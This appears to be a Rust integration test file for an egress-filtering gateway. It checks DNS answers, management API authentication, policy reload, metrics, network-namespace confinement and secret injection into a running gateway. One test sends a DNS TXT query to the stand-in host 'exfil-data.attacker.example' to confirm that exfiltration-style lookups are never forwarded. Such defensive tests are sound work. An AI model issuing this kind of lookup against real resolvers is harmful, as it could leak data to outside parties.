//! Operating the gateway: DNS answers (dig), the management API, hot reload, metrics, and a
//! workload in a real network namespace whose only way out is the gateway.

#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

use crate::common;

use common::{API, Env, Opts, curl, json, run};

async fn dig(env: &Env, args: &[&str]) -> String {
    let dns = env.addrs.dns.unwrap();
    let mut a: Vec<String> = vec![
        format!("@{}", dns.ip()),
        "-p".into(),
        dns.port().to_string(),
        "+short".into(),
        "+time=3".into(),
        "+tries=1".into(),
    ];
    a.extend(args.iter().map(|s| s.to_string()));
    String::from_utf8_lossy(&run("dig", &a, &[]).await.stdout)
        .trim()
        .to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dns_answers_with_the_gateway_address_over_udp_and_tcp() {
    let env = Env::start(Opts::default()).await;
    assert_eq!(dig(&env, &["anything.example.com", "A"]).await, "127.0.0.1");
    assert_eq!(
        dig(&env, &["+tcp", "api.openai.com", "A"]).await,
        "127.0.0.1"
    );
    assert_eq!(
        dig(&env, &["anything.example.com", "AAAA"]).await,
        "",
        "no AAAA without proxy_ip6"
    );
    assert_eq!(dig(&env, &["static.test", "A"]).await, "192.0.2.7");
    assert_eq!(
        dig(&env, &["localhost", "A"]).await,
        "127.0.0.1",
        "passthrough via the system resolver"
    );
    assert_eq!(
        dig(&env, &["exfil-data.attacker.example", "TXT"]).await,
        "",
        "never forwarded"
    );
    // Malformed packets are dropped and counted; the server keeps answering.
    let sock = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
    sock.send_to(b"\x00\x01garbage", env.addrs.dns.unwrap())
        .await
        .unwrap();
    assert_eq!(dig(&env, &["after.garbage.test", "A"]).await, "127.0.0.1");
    let (_, metrics, _) = curl(
        &env,
        &[&format!("http://{}/metrics", env.addrs.metrics.unwrap())],
    )
    .await;
    assert!(
        metrics.contains("centaur_gateway_dns_malformed_total 1"),
        "{metrics}"
    );
    env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn management_api_auth_status_metrics_and_reload() {
    let env = Env::start(Opts {
        management_token: Some("s3cret"),
        ..Opts::default()
    })
    .await;
    let m = format!("http://{}", env.addrs.management.unwrap());
    assert_eq!(curl(&env, &[&format!("{m}/healthz")]).await.0, 200);
    assert_eq!(curl(&env, &[&format!("{m}/readyz")]).await.0, 200);
    assert_eq!(curl(&env, &[&format!("{m}/v1/status")]).await.0, 401);
    assert_eq!(
        curl(
            &env,
            &[
                "-H",
                "Authorization: Bearer wrong",
                &format!("{m}/v1/status")
            ]
        )
        .await
        .0,
        401
    );
    let auth = "Authorization: Bearer s3cret";
    let (code, body, _) = curl(&env, &["-H", auth, &format!("{m}/v1/status")]).await;
    assert_eq!(code, 200);
    assert_eq!(json(&body)["policy_rules"], 2);
    assert_eq!(
        curl(&env, &["-H", auth, &format!("{m}/v1/reload")]).await.0,
        405,
        "reload is POST"
    );
    // Traffic, then metrics.
    let mut args = env.to_https(API);
    args.push(format!("https://{API}/m"));
    let args_ref: Vec<&str> = args.iter().map(String::as_str).collect();
    assert_eq!(curl(&env, &args_ref).await.0, 200);
    env.record(|r| r["path"] == "/m").await;
    let (_, metrics, _) = curl(&env, &["-H", auth, &format!("{m}/metrics")]).await;
    assert!(
        metrics.contains("centaur_gateway_requests_total{listener=\"https\",action=\"allow\"} 1"),
        "{metrics}"
    );
    // An invalid policy is refused with every error; the running one stays (invariant 5).
    let path = env.path("gateway.yaml");
    let good = std::fs::read_to_string(&path).unwrap();
    std::fs::write(
        &path,
        good.replace("domains: ['*.test']", "domains: ['*.', 'api.*.test']"),
    )
    .unwrap();
    let (code, body, _) = curl(&env, &["-X", "POST", "-H", auth, &format!("{m}/v1/reload")]).await;
    assert_eq!(code, 422, "{body}");
    assert_eq!(json(&body)["errors"].as_array().unwrap().len(), 2, "{body}");
    assert_eq!(
        curl(&env, &args_ref).await.0,
        200,
        "the old policy still serves"
    );
    // A valid policy that no longer allows api.test takes effect at once.
    std::fs::write(
        &path,
        good.replace("domains: ['*.test']", "domains: ['other.test']"),
    )
    .unwrap();
    let (code, body, _) = curl(&env, &["-X", "POST", "-H", auth, &format!("{m}/v1/reload")]).await;
    assert_eq!(code, 200, "{body}");
    let (code, _, err) = curl(&env, &args_ref).await;
    assert_eq!(code, 0, "denied at the TLS handshake now: {err}");
    // PUT /v1/policy: the body is the policy. Invalid → 422 with every error, nothing changes.
    let put = env.path("put.yaml");
    std::fs::write(
        &put,
        good.replace(
            "domains: ['*.test']",
            "mode: enforse\n      domains: ['*.test']",
        ),
    )
    .unwrap();
    let at = format!("@{}", put.display());
    let put_policy = || {
        let at = at.clone();
        let url = format!("{m}/v1/policy");
        let env = &env;
        async move {
            let args = ["-X", "PUT", "-H", auth, "--data-binary", &at, &url];
            curl(env, &args).await
        }
    };
    let (code, body, _) = put_policy().await;
    assert_eq!(code, 422, "{body}");
    assert!(body.contains("unknown mode `enforse`"), "{body}");
    let (code, _, _) = curl(&env, &args_ref).await;
    assert_eq!(code, 0, "still the reloaded policy");
    std::fs::write(&put, &good).unwrap();
    let (code, body, _) = put_policy().await;
    assert_eq!(code, 200, "{body}");
    assert_eq!(curl(&env, &args_ref).await.0, 200, "the PUT policy serves");
    env.stop().await;
}

/// Invariants 1 and 2 end to end: a process in its own network namespace, whose resolver and
/// only route is the gateway, reaches an allowed name, is refused a denied one, and cannot
/// reach anything by literal IP. Needs root (CI runs as root).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn workload_in_a_network_namespace_only_reaches_the_gateway() {
    if !common::root_or_skip("workload_in_a_network_namespace_only_reaches_the_gateway") {
        return;
    }
    let ns = format!("cgw{}", std::process::id());
    let (host_if, ns_if) = (
        format!("h{}", std::process::id() % 100000),
        format!("n{}", std::process::id() % 100000),
    );
    let third = (std::process::id() % 200 + 20) as u8;
    let (gw_ip, ns_ip) = (format!("10.213.{third}.1"), format!("10.213.{third}.2"));
    let sh = |c: String| async move {
        let out = run("sh", &["-c".into(), c.clone()], &[]).await;
        assert!(
            out.status.success(),
            "{c}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    sh(format!("ip netns add {ns} && ip link add {host_if} type veth peer name {ns_if} && ip link set {ns_if} netns {ns} && ip addr add {gw_ip}/30 dev {host_if} && ip link set {host_if} up && ip netns exec {ns} ip addr add {ns_ip}/30 dev {ns_if} && ip netns exec {ns} ip link set {ns_if} up && ip netns exec {ns} ip link set lo up")).await;
    let cleanup = Cleanup(format!(
        "ip netns del {ns}; ip link del {host_if} 2>/dev/null"
    ));
    // The gateway listens on the veth address at the standard ports, as in production.
    let env = Env::start(Opts {
        proxy_extra: String::new(),
        listen_ip: Some(gw_ip.clone()),
        ..Opts::default()
    })
    .await;
    let resolv = env.path("resolv.conf");
    std::fs::write(&resolv, format!("nameserver {gw_ip}\n")).unwrap();
    let inside = |cmd: String| {
        let (ns, resolv) = (ns.clone(), resolv.display().to_string());
        async move {
            let c = format!(
                "ip netns exec {ns} unshare -m sh -c 'mount --bind {resolv} /etc/resolv.conf && {cmd}'"
            );
            run("sh", &["-c".into(), c], &[]).await
        }
    };
    let ca = env.ca();
    let ok = inside(format!("curl -sS --max-time 10 --cacert {ca} -o /dev/null -w %{{http_code}} https://{API}/from-netns")).await;
    assert_eq!(
        String::from_utf8_lossy(&ok.stdout),
        "200",
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    let denied = inside(format!(
        "curl -sS --max-time 10 --cacert {ca} https://denied.example.com/"
    ))
    .await;
    assert!(!denied.status.success());
    // No route anywhere but the gateway's /30: a literal IP elsewhere is unreachable.
    let direct = inside("curl -sS --max-time 3 http://93.184.216.34/".into()).await;
    assert!(!direct.status.success());
    let r = env.record(|r| r["path"] == "/from-netns").await;
    assert_eq!(
        r["client"].as_str().unwrap().split(':').next().unwrap(),
        ns_ip
    );
    env.record(|r| r["host"] == "denied.example.com").await;
    env.stop().await;
    drop(cleanup);
}

struct Cleanup(String);

impl Drop for Cleanup {
    fn drop(&mut self) {
        let _ = std::process::Command::new("sh")
            .args(["-c", &self.0])
            .status();
    }
}

/// `centaur-gateway put-policy --with-env` (`PUT /v1/policy` as JSON): what Centaur's
/// Kubernetes backend runs in a warm sandbox's gateway pod when a thread claims it. The
/// gateway, started neutral (api.test refused), takes the thread's policy, the value of the
/// variable that policy injects (which its own environment never had: a running pod's
/// cannot change) and its audit labels, at once. A wrong key, a malformed body and an
/// invalid policy are refused with their reason, and the running policy stays (invariant 5);
/// the value never reaches the audit trail (invariant 3).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_gateway_handed_over_takes_the_policy_its_variables_and_its_labels() {
    let neutral = "  - name: allowlist\n    config: {domains: [other.test]}\n";
    let p = common::Proc::start_with(
        "{file: {path: DIR/audit.jsonl}}",
        common::ProcPolicy {
            transforms: Some(neutral),
            management_key_env: Some("MGMT_KEY"),
            ..Default::default()
        },
        &[("MGMT_KEY", "k3y".to_string())],
    )
    .await;
    let management = p.management.clone().expect("a management listener");
    let value = format!("handed-{}", common::CANARY);
    let policy = std::fs::read_to_string(p.path("gateway.yaml"))
        .unwrap()
        .replace(
            neutral,
            "  - name: allowlist\n    config: {domains: [api.test]}\n  - name: secrets\n    config:\n      secrets:\n        - source: {type: env, var: HANDED}\n          rules: [{host: api.test}]\n          inject: {header: x-handed}\n",
        )
        .replace("audit: {", "audit: {sandbox: {thread_key: 'slack:T1/C1/1.2'}, ");
    let get = |path: &'static str| {
        let proxy = format!("http://{}", p.tunnel);
        let ca = p.path("ca.crt");
        async move {
            let out = tokio::process::Command::new("curl")
                .args(["-sS", "-o", "/dev/null", "-w", "%{http_code}", "-x", &proxy])
                .arg("--cacert")
                .arg(ca)
                .arg(format!("https://api.test{path}"))
                .output()
                .await
                .unwrap();
            String::from_utf8_lossy(&out.stdout).into_owned()
        }
    };
    let put = |key: &str, body: String| {
        let mut c = std::process::Command::new(env!("CARGO_BIN_EXE_centaur-gateway"));
        c.args([
            "put-policy",
            "--management",
            &management,
            "--key-env",
            "KEY",
            "--with-env",
        ])
        .env("KEY", key)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
        let mut child = c.spawn().unwrap();
        use std::io::Write as _;
        child
            .stdin
            .take()
            .unwrap()
            .write_all(body.as_bytes())
            .unwrap();
        let out = child.wait_with_output().unwrap();
        (
            out.status.success(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
        )
    };
    // Refused at the tunnel (curl says 000 for a refused CONNECT).
    assert_eq!(get("/before").await, "000", "neutral: api.test refused");
    let body = serde_json::json!({"policy": policy, "env": {"HANDED": value}}).to_string();
    for (key, text, why) in [
        ("wrong", body.clone(), "unauthorized"),
        ("k3y", "{\"policy\": 3}".to_string(), "<policy file>"),
        ("k3y", "not json".to_string(), "<policy file>"),
        (
            "k3y",
            serde_json::json!({"policy": "transforms: [{name: nope}]"}).to_string(),
            "invalid policy",
        ),
    ] {
        let (ok, said) = put(key, text);
        assert!(!ok && said.contains(why), "{why}: {said}");
    }
    assert_eq!(get("/still").await, "000", "the running policy stayed");
    let (ok, said) = put("k3y", body);
    assert!(ok, "{said}");
    assert_eq!(json(&said)["status"], "ok", "{said}");
    assert_eq!(get("/after").await, "200");
    let seen = p.origin.seen();
    let after = seen.iter().find(|r| r["path"] == "/after").unwrap();
    assert_eq!(after["headers"]["x-handed"], value.as_str(), "{after}");
    let mut records = Vec::new();
    for _ in 0..100 {
        records = p.records();
        if records.iter().any(|r| r["path"] == "/after") {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let label = |path: &str| {
        records
            .iter()
            .find(|r| r["path"] == path)
            .map(|r| r["sandbox"]["thread_key"].clone())
    };
    assert_eq!(label("/after"), Some(serde_json::json!("slack:T1/C1/1.2")));
    // Before the handover, its records named no thread.
    let refused: Vec<&serde_json::Value> = records
        .iter()
        .filter(|r| r["host"] == "api.test:443" && r["action"] == "reject")
        .collect();
    assert!(!refused.is_empty(), "{records:?}");
    assert!(
        refused.iter().all(|r| r["sandbox"]["thread_key"].is_null()),
        "{refused:?}"
    );
}
